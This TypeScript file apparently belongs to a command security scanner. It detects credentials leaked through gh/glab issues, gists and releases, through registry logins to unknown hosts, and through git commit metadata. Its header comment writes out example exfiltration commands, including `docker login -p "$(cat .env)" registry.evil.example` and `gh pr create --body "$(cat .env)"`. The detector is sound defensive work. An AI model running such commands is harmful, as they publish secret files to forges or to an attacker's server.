// Credentials handed to a program whose job is to publish text or to log in
// somewhere: an issue, a pull request or a comment on a forge
// (`gh pr create --body "$(cat .env)"`, `gh issue create -F .env`,
// `glab issue create -d "$(cat .env)"`), a registry login with a password read
// from a credential file (`docker login -p "$(cat .env)" registry.evil.example`),
// and commit metadata that the next push publishes (`git commit -m "$(cat .env)"`,
// `git config user.name "$(cat .env)"`, `git tag -m …`, `git notes add -m …`).
// None of these programs is an HTTP client, yet each carries the content to
// another host as surely as `curl -d @.env`. A plain message, a body file that
// holds no credential, a forge's own secret store (`gh secret set`) and a login
// to a well-known registry (which checks the password and keeps it) stay quiet.
import { optionValues, positionals } from '../../command/args';
import type { AnalysisContext, Finding, SimpleCommand } from '../../types';
import { credentialIn } from '../common/credentials';
import { finding } from '../common/finding';
import { secretRefs, SEND_ALT } from './common';
import { substitutedSecret } from './substitutions';
import { credentialProducer } from './network';
import { runTimeFileSent } from './runTimeSends';

/** Command-line clients of code forges and trackers: their words become issues, comments, releases. */
export const FORGE_CLIS = new Set(['gh', 'glab', 'hub', 'tea', 'lab', 'jira', 'fj', 'berg']);
/** Forge verbs that keep a secret where secrets belong, log in, or only change local settings. */
const FORGE_STORES = new Set(['secret', 'variable', 'auth', 'config', 'alias', 'completion', 'extension']);
/** Programs that log in to a container or artifact registry. */
export const REGISTRY_LOGINS = new Set(['docker', 'podman', 'nerdctl', 'buildah', 'skopeo', 'oras', 'helm', 'crane']);
/**
 * Registries run by a known provider: a password sent there is checked and kept by that provider, not read by
 * whoever named the registry. Any other host may be the sender's own server.
 */
const PROVIDER_REGISTRIES =
  /^(?:(?:index\.|registry-1\.)?docker\.io|ghcr\.io|quay\.io|(?:[a-z0-9-]+\.)?gcr\.io|[a-z0-9-]+-docker\.pkg\.dev|\d+\.dkr\.ecr(?:-fips)?\.[a-z0-9-]+\.amazonaws\.com(?:\.cn)?|public\.ecr\.aws|[a-z0-9-]+\.azurecr\.io|registry\.gitlab\.com|nvcr\.io|registry\.redhat\.io|mcr\.microsoft\.com)$/i;
/** Git global options that take a value, so that the subcommand is found after them. */
const GIT_VALUE_OPTIONS = ['-C', '-c', '--git-dir', '--work-tree', '--namespace', '--exec-path', '--config-env'];
/** Git subcommands that write a message or an identity into history. */
const GIT_RECORDERS = new Set(['commit', 'tag', 'notes', 'merge', 'revert', 'cherry-pick', 'stash', 'commit-tree']);
/** Configuration keys that end up in every commit made afterwards. */
const GIT_IDENTITY_KEY = /^(?:user|author|committer)\.(?:name|email)$/i;

/**
 * A secret the command's words carry: a credential file or environment dump read in `$(…)`, or (with
 * `variables`) a secret variable.
 */
function carried(cmd: SimpleCommand, ctx: AnalysisContext, from = 1, variables = true): string | undefined {
  const view = from === 1 ? cmd : { ...cmd, argv: cmd.argv.slice(from - 1), dynamic: cmd.dynamic.slice(from - 1) };
  const what = view.dynamic.some(Boolean) ? substitutedSecret(view, ctx) : undefined;
  if (what || !variables) return what;
  for (let i = 1; i < view.argv.length && i < 256; i++) {
    if (!view.dynamic[i]) continue;
    const refs = secretRefs(view.argv[i]);
    if (refs.length) return '$' + refs[0];
  }
  return undefined;
}

/** Names a program reads for stdin when given them as a file. */
const STDIN_NAMES = new Set(['-', '/dev/stdin', '/dev/fd/0']);

/** A credential the command reads on stdin: a file redirected in (`< .env`), or one piped from a reader (`cat .env |`). */
function stdinSecret(cmd: SimpleCommand, ctx: AnalysisContext): string | undefined {
  const read = cmd.redirects.filter((r) => r.op === '<' && r.fd === 0).map((r) => r.target);
  const hit = credentialIn(read, cmd, ctx)?.shown;
  if (hit) return hit;
  const from = cmd.stdinOrigin ?? cmd.stdinFrom;
  return from && cmd.stdin === undefined ? credentialProducer(from, cmd, ctx) : undefined;
}

/** A credential in the files named (`-F .env`), or on stdin when one of them is stdin (`-F - < .env`). */
function fileSecret(files: readonly string[], cmd: SimpleCommand, ctx: AnalysisContext): string | undefined {
  return (
    credentialIn(files, cmd, ctx)?.shown ?? (files.some((f) => STDIN_NAMES.has(f)) ? stdinSecret(cmd, ctx) : undefined)
  );
}

/** Gist verbs that upload the files they name. */
const GIST_UPLOADS = new Set(['create', 'new', 'edit']);

/**
 * The files `gh gist create|edit` uploads. With none named, or `-`, it uploads what it reads on stdin
 * (`cat .env | gh gist create`, `gh gist create - < .env`).
 */
function gistFiles(argv: readonly string[]): string[] {
  const words = positionals(argv, ['-R', '--repo', '-d', '--desc', '-f', '--filename', '-a', '--add'], 1);
  const verb = words[1] ?? '';
  if (!GIST_UPLOADS.has(verb)) return [];
  // `gh gist edit ID [FILE]`: the first word after the verb is the gist, not a file.
  const files = words.slice(verb === 'edit' ? 3 : 2);
  const added = optionValues(argv, ['-a', '--add']);
  if (files.length || added.length || verb === 'edit') return [...files, ...added];
  return ['-'];
}

/** The assets `gh release upload TAG FILE…` / `gh release create TAG FILE…` attach (`FILE#label` names FILE). */
function releaseAssets(name: string, words: readonly string[]): string[] {
  if ((name !== 'gh' && name !== 'glab') || words[0] !== 'release') return [];
  if (words[1] !== 'upload' && words[1] !== 'create') return [];
  return words.slice(3).map((w) => w.replace(/#.*$/s, ''));
}

function forgeFinding(name: string, cmd: SimpleCommand, ctx: AnalysisContext): Finding | undefined {
  const words = positionals(cmd.argv, ['-R', '--repo', '-t', '--title', '-n', '--notes', '--target']);
  if (!words.length || FORGE_STORES.has(words[0])) return undefined;
  // `gh issue create -F FILE`, `gh release create -F FILE`: outside `gh api`, `-F` names the body's file.
  const files = [
    ...(name === 'gh' && words[0] !== 'api' ? optionValues(cmd.argv, ['-F']) : []),
    ...optionValues(cmd.argv, ['--body-file', '--notes-file', '--description-file', '--message-file']),
    ...(name === 'gh' && words[0] === 'gist' ? gistFiles(cmd.argv) : []),
    ...releaseAssets(name, words),
  ];
  const verb = [name, ...words.slice(0, 2)].join(' ');
  const what = fileSecret(files, cmd, ctx) ?? carried(cmd, ctx);
  // `gh gist create "$F"`, `gh release upload v1 "$F"`: a file named only at run time may be a key.
  if (!what) return files.length ? runTimeFileSent(verb, files, cmd, () => []) : undefined;
  return finding('secrets.send-to-network', 85, `${verb} publishes ${what} on the forge`, what, SEND_ALT);
}

/** The registry host a login names: its last positional, or Docker Hub when none is given. */
function loginRegistry(name: string, cmd: SimpleCommand): string | undefined {
  const words = positionals(cmd.argv, ['-u', '--username', '-p', '--password', '--authfile', '--cert-dir']);
  const at = words.indexOf('login');
  if (at === -1 || at > 2) return undefined;
  const host = words[at + 1] ?? (name === 'docker' ? 'docker.io' : '');
  return host.replace(/^[a-z]+:\/\//i, '').replace(/\/.*$/, '');
}

function registryLoginFinding(name: string, cmd: SimpleCommand, ctx: AnalysisContext): Finding | undefined {
  const host = loginRegistry(name, cmd);
  if (host === undefined || PROVIDER_REGISTRIES.test(host)) return undefined;
  let what: string | undefined;
  const argv = cmd.argv;
  for (let i = 1; i < argv.length && i < 256 && !what; i++) {
    const a = argv[i];
    const inline = /^--password=(.*)$/s.exec(a) ?? /^-p(.+)$/s.exec(a);
    const at = inline ? i : a === '-p' || a === '--password' ? i + 1 : -1;
    if (at === -1 || at >= argv.length || !cmd.dynamic[at]) continue;
    const value = inline ? inline[1] : argv[at];
    // A password variable (`-p "$CI_REGISTRY_PASSWORD"`) is that registry's own: only a file's content is out of place.
    what = carried({ ...cmd, argv: [name, value], dynamic: [false, true] }, ctx, 1, false);
  }
  // `--password-stdin < .env`, `cat .env | … --password-stdin`: the file is the password.
  if (!what && argv.includes('--password-stdin')) what = stdinSecret(cmd, ctx);
  if (!what) return undefined;
  const where = host || 'a registry named at run time';
  return finding(
    'secrets.send-to-network',
    85,
    `${name} login sends ${what} as the password to ${where}, a registry not run by a known provider`,
    what,
    'log in with the registry token meant for it (--password-stdin from a secret manager); never send a credential file as a password',
  );
}

function gitMetadataFinding(cmd: SimpleCommand, ctx: AnalysisContext): Finding | undefined {
  const words = positionals(cmd.argv, GIT_VALUE_OPTIONS);
  const sub = words[0] ?? '';
  let what: string | undefined;
  if (sub === 'config') {
    const key = words.find((w) => GIT_IDENTITY_KEY.test(w));
    if (key) what = carried(cmd, ctx, cmd.argv.indexOf(key) + 1);
  } else if (GIT_RECORDERS.has(sub)) {
    const files = optionValues(cmd.argv, ['-F', '--file']);
    what = fileSecret(files, cmd, ctx) ?? carried(cmd, ctx);
  }
  if (!what) return undefined;
  return finding(
    'secrets.send-to-network',
    85,
    `git ${sub} writes ${what} into commit metadata, which the next push publishes with the history`,
    what,
    'keep credentials out of messages and identities; a secret in history stays there after it is rotated',
  );
}

/** What a publishing program carries out of the machine, when it carries a credential. */
export function publishedFinding(name: string, cmd: SimpleCommand, ctx: AnalysisContext): Finding | undefined {
  if (FORGE_CLIS.has(name)) return forgeFinding(name, cmd, ctx);
  if (REGISTRY_LOGINS.has(name)) return registryLoginFinding(name, cmd, ctx);
  if (name === 'git') return gitMetadataFinding(cmd, ctx);
  return undefined;
}
